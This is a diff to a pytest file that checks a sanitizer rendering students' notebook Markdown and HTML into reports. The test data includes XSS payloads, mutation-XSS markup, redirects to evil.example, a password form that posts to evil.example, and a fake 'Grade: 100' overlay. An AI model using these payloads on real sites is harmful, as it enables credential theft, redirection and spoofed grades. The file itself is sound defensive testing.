@@ -11,7 +11,8 @@ from tests.report.pages import read, tags, visible
 
 ALLOWED = {
     *("p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "h4", "h5", "h6"),
-    *("table", "thead", "tbody", "tr", "th", "td"),
+    *("table", "thead", "tbody", "tr", "th", "td", "caption", "div", "dl", "dt", "dd"),
+    *("b", "i", "u", "sub", "sup", "mark", "small", "kbd", "del", "ins"),
 }
 
 
@@ -45,10 +46,18 @@ def test_markdown_is_rendered():
         "$</code><script>alert(1)</script>$",
         "<!-- --><style>@import 'https://evil.example/x.css'</style>",
         "| <b onclick=alert(1)> | x |\n|-|-|\n| 1 | 2 |",
+        '<div style="position:fixed;inset:0">Grade: 100</div>',
+        '<p class="points" id="findings">100</p>',
+        "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
+        '<img src="data:image/svg+xml;base64,PHN2Zz4=" srcset="https://evil.example/x 2x">',
+        '<audio src="https://evil.example/a.mp3" autoplay></audio>',
+        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+        "<form action='https://evil.example'><input name=password><button>Go</button></form>",
+        "<base href='https://evil.example'><meta http-equiv=refresh content='0;url=https://evil.example'>",
     ],
 )
-def test_attacks_become_text(attack):
-    """Raw HTML stays text; no address but http, https and mailto survives; no event handler, style or picture."""
+def test_attacks_do_nothing(attack):
+    """No address but http, https and mailto survives; no event handler, style, class or picture."""
     found = read(prose(attack)).elements
 
     assert {tag for tag, _ in found} <= ALLOWED
@@ -57,9 +66,27 @@ def test_attacks_become_text(attack):
         assert attributes.get("href", "https://").startswith(("https://", "http://", "mailto:"))
 
 
-def test_raw_html_is_shown_not_swallowed():
-    """A student who writes about HTML sees what was written."""
-    assert "<b>bold</b> is a tag" in visible(prose("<b>bold</b> is a tag"))
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("<b>bold</b> and x<sub>1</sub>", "bold and x 1"),
+        ("<details><summary>My answer</summary>\n\nKeras, since…\n\n</details>", "My answer Keras, since…"),
+        ("<center><h1>Keras</h1></center>", "Keras"),
+        ("if a <y and z> b, a List<int>", "if a <y and z> b, a List<int>"),
+        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
+        ('<audio controls src="data:audio/mpeg;base64,AAAA"></audio>', "[sound: in the notebook]"),
+        ('<img src="plot.png" alt="my plot">', "[picture: my plot]"),
+        ("![](plot.png)", "[picture: plot.png, which is not in the notebook]"),
+        ("![a](attachment:a.png)", "[picture 1]"),
+        ('<img src="attachment:a.png" width=300>', "[picture 1]"),
+        ("`<b>code</b>`", "<b>code</b>"),
+    ],
+)
+def test_raw_html_is_shown_not_swallowed(written, shown):
+    """What Jupyter shows is shown, what it would play or load is named, and what is no markup stays text."""
+    page = prose(written, pictures={"a.png": "picture 1"})
+
+    assert " ".join(visible(page).split()) == shown
 
 
 def test_formulas_stay_as_written():
@@ -77,8 +104,12 @@ def test_headings_rank_below_those_of_the_report():
 
 
 def test_pictures_become_their_description():
-    """A picture leaves its description behind and loads nothing."""
-    assert "[picture: my plot]" in visible(prose("![my plot](https://example.org/plot.png)"))
+    """A picture on the web leaves its description and a link behind, and loads nothing."""
+    page = prose("![my plot](https://example.org/plot.png)")
+
+    assert "[picture: my plot" in visible(page)
+    assert "img" not in tags(page)
+    assert 'href="https://example.org/plot.png"' in page
 
 
 def test_endless_answers_are_cut():
@@ -96,7 +127,32 @@ def test_tables_that_nobody_writes_stay_text(table):
 
 
 @pytest.mark.parametrize(
-    "unit", ["[", "*a ", "> ", "![[", "$", "`", "<", "- ", "[a](<", "_a__b", "&#", "|-", "\\", "1. "]
+    "unit",
+    [
+        "[",
+        "*a ",
+        "> ",
+        "![[",
+        "$",
+        "`",
+        "<",
+        "- ",
+        "[a](<",
+        "_a__b",
+        "&#",
+        "|-",
+        "\\",
+        "1. ",
+        "<b>",
+        "<ul><li>",
+        "<table><tr><td>",
+        "<img src=",
+        "<a ",
+        "<!--",
+        "</div>",
+        "<details><summary>",
+        "<p><",
+    ],
 )
 def test_hostile_nesting_takes_no_time(unit):
     """No pile of brackets makes the parser slow."""
